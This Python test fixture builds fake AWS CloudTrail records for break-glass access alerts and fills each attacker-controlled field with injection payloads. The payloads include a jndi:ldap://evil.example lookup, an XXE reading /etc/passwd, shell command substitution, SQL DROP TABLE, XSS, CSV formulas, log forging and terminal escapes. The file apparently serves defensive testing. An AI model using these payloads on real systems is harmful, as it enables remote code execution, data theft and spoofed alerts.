"""Texts that attackers write into CloudTrail records, one for every kind of reader that could obey them, and the records
that carry them into an alert."""
import glob
import json
import os

PAYLOADS = {
    "slack channel": "<!channel> <!here>", "slack everyone": "<!everyone>", "slack subteam": "<!subteam^S1>",
    "slack user": "<@U0123456789>", "slack room": "<#C0123456789|general>", "slack date": "<!date^1^{date}^http://evil.example|now>",
    "slack link": "<https://evil.example/login|https://wiki.example.com>", "slack entity": "&lt;!channel&gt; &amp;lt;",
    "slack bold": "*GWBOLD* _GWBOLD_ ~GWBOLD~", "slack code": "`GWCODE` ```GWCODE```", "slack quote": "\n> GWQUOTE\n>>> GWQUOTE",
    "slack list": "\n\u2022 GWLIST\n1. GWLIST", "bare link": "http://evil.example/a?b=c", "mail address": "mailto:a@evil.example",
    "markdown link": "[wiki](http://evil.example)", "discord": "@everyone", "teams": "<at>everyone</at>",
    "html script": "<script>alert(1)</script>", "html image": "\"><img src=x onerror=alert(1)>", "xml": "]]><x/>",
    "xml entity": "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
    "csv formula": "=HYPERLINK(\"http://evil.example\")", "csv plus": "+1+1", "csv minus": "-1+1", "csv at": "@SUM(1)",
    "csv quote": "a\",\"b\n=1", "csv tab": "\t=1", "csv return": "\r=1",
    "json break": "\",\"outcome\":\"success\",\"x\":\"", "json object": "\"},{\"type\":\"session.lapsed\",\"x\":{\"y\":\"",
    "json escape": "\\\",\\u0022,\\\\", "log line": "\n2026-01-01T00:00:00Z INFO GWFAKE nothing happened",
    "log json": "\n{\"level\":\"info\",\"message\":\"GWFAKE\"}", "log crlf": "a\r\nGWFAKE: b", "syslog priority": "<0>kernel: GWFAKE",
    "prometheus": "a\"} 1\nfake_metric{x=\"", "template": "${jndi:ldap://evil.example/a} {{7*7}} #{7*7}",
    "shell": "$(touch /tmp/gwpwn) `id` ; id | cat", "sql": "'; DROP TABLE session; --", "printf": "%s%n%x %d",
    "path": "../../../../etc/passwd\u0000.json", "ansi colour": "\x1b[31mred\x1b[0m", "ansi clear": "\x1b[2J\x1b[H",
    "ansi c1": "\x9b31m\x9d0;x\x9c", "osc title": "\x1b]0;title\x07", "osc 8": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "bell and backspace": "\x07\x08\x7f\x0b\x0c", "nul": "a\x00b", "bidi override": "\u202egnp.exe\u202c", "bidi isolate": "\u2066a\u2069\u200f\u061c",
    "zero width": "ad\u200bm\u200ci\u200dn\ufeff\u2060", "tag characters": "a\U000e0041\U000e0042", "separators": "a\u2028GWFAKE\u2029b\x85c",
    "homoglyph": "\u0430dmin", "combining": "Z" + "\u0335\u0321\u0334" * 30, "noncharacter": "a\ufffe\U0010ffff", "long": "A" * 5000,
    "long entities": "<&>" * 2000, "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467", "lone surrogate": "a\ud800b"}


def shared_payloads(folder):
    """The userAgent of each file of the larger set, where that is at hand."""
    out = {}
    for path in sorted(glob.glob(os.path.join(folder, "malformed", "i_*.json"))):
        with open(path, encoding="utf-8") as f:
            out[os.path.basename(path)] = json.load(f)["Records"][0]["userAgent"]
    return out


ACCOUNTS = ["%012d" % (100000000000 + n * 1111) for n in range(24)]
MANAGEMENT = "111122223333"


def record(number, kind, account, now, **more):
    rec = {"eventVersion": "1.08", "eventTime": now, "awsRegion": "eu-west-1", "sourceIPAddress": "198.51.100.77",
           "userAgent": "Mozilla/5.0", "requestParameters": None, "responseElements": None,
           "requestID": f"00000000-0000-4000-8000-{number:012d}", "eventID": f"00000000-0000-4000-8{kind:03d}-{number:012d}",
           "readOnly": False, "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": account,
           "eventCategory": "Management"}
    rec.update(more)
    return rec


def records(number, payload, now):
    """The payload in every field that its writer controls, in records that are told: {kind: record}."""
    account, p = ACCOUNTS[number % len(ACCOUNTS)], f"gwx{number}" + payload + "xwg"
    role_arn = f"arn:aws:iam::{account}:role/EmergencyAccess"
    role_id = f"AROA{number:017d}"
    credentials = {"accessKeyId": f"ASIA{number:016d}", "expiration": "Jul 1, 2026, 12:08:19 PM"}
    chained = {"type": "AssumedRole", "principalId": role_id + ":" + p, "accountId": account,
               "arn": f"arn:aws:sts::{account}:assumed-role/EmergencyAccess/{p}", "accessKeyId": credentials["accessKeyId"],
               "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": role_id, "arn": role_arn,
                                                    "accountId": account, "userName": "EmergencyAccess"},
                                  "attributes": {"creationDate": now, "mfaAuthenticated": "false"}, "sourceIdentity": p}}
    caller = {"type": "AssumedRole", "principalId": f"AROACALLER{number:011d}:{p}", "accountId": MANAGEMENT,
              "arn": f"arn:aws:sts::{MANAGEMENT}:assumed-role/Any/{p}", "accessKeyId": "ASIACALLER0000000000",
              "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": f"AROACALLER{number:011d}",
                                                   "arn": f"arn:aws:iam::{MANAGEMENT}:role/Any", "accountId": MANAGEMENT,
                                                   "userName": "Any"},
                                 "attributes": {"creationDate": now, "mfaAuthenticated": "false"}, "sourceIdentity": p}}
    params = {"roleArn": role_arn, "roleSessionName": p, "sourceIdentity": p, "tags": [{"key": p, "value": p}],
              "externalId": p, p: p, "durationSeconds": 3600}
    return {
        "portal": record(number, 1, MANAGEMENT, now, eventSource="sso.amazonaws.com", eventName="Federate", userAgent=p,
                         sourceIPAddress=p, eventType="AwsServiceEvent",
                         userIdentity={"type": "Unknown", "accountId": MANAGEMENT, "principalId": p, "userName": p},
                         serviceEventDetails={"role_name": "BreakGlass" + p, "account_id": account}),
        "role": record(number, 2, account, now, eventSource="sts.amazonaws.com", eventName="AssumeRole", userAgent=p,
                       userIdentity=caller, requestParameters=params, readOnly=True, awsRegion=p,
                       responseElements={"credentials": credentials, "sourceIdentity": p,
                                         "assumedRoleUser": {"assumedRoleId": role_id + ":" + p, "arn": chained["arn"]}}),
        "call": record(number, 3, account, now, eventSource="iam.amazonaws.com", eventName="Create" + p, userAgent=p,
                       sourceIPAddress=p, userIdentity=chained, requestParameters={"userName": p, p: p}),
        "denied": record(number, 4, account, now, eventSource="sts.amazonaws.com", eventName="AssumeRole", userAgent=p,
                         userIdentity=caller, errorCode="AccessDenied" + p, sourceIPAddress=p,
                         errorMessage=f"User: {p} is not authorized to perform: sts:AssumeRole on resource: {role_arn}{p}"),
        "tamper": record(number, 5, account, now, eventSource="cloudtrail.amazonaws.com", eventName="StopLogging", userAgent=p,
                         userIdentity=chained, requestParameters={"name": p}),
        "user": record(number, 6, account, now, eventSource="s3.amazonaws.com", eventName="ListBuckets", userAgent=p,
                       readOnly=True,
                       userIdentity={"type": "IAMUser", "principalId": f"AIDA{number:017d}", "userName": p,
                                     "arn": f"arn:aws:iam::{account}:user/breakglass/{p}", "accountId": account,
                                     "accessKeyId": f"AKIA{number:016d}"})}
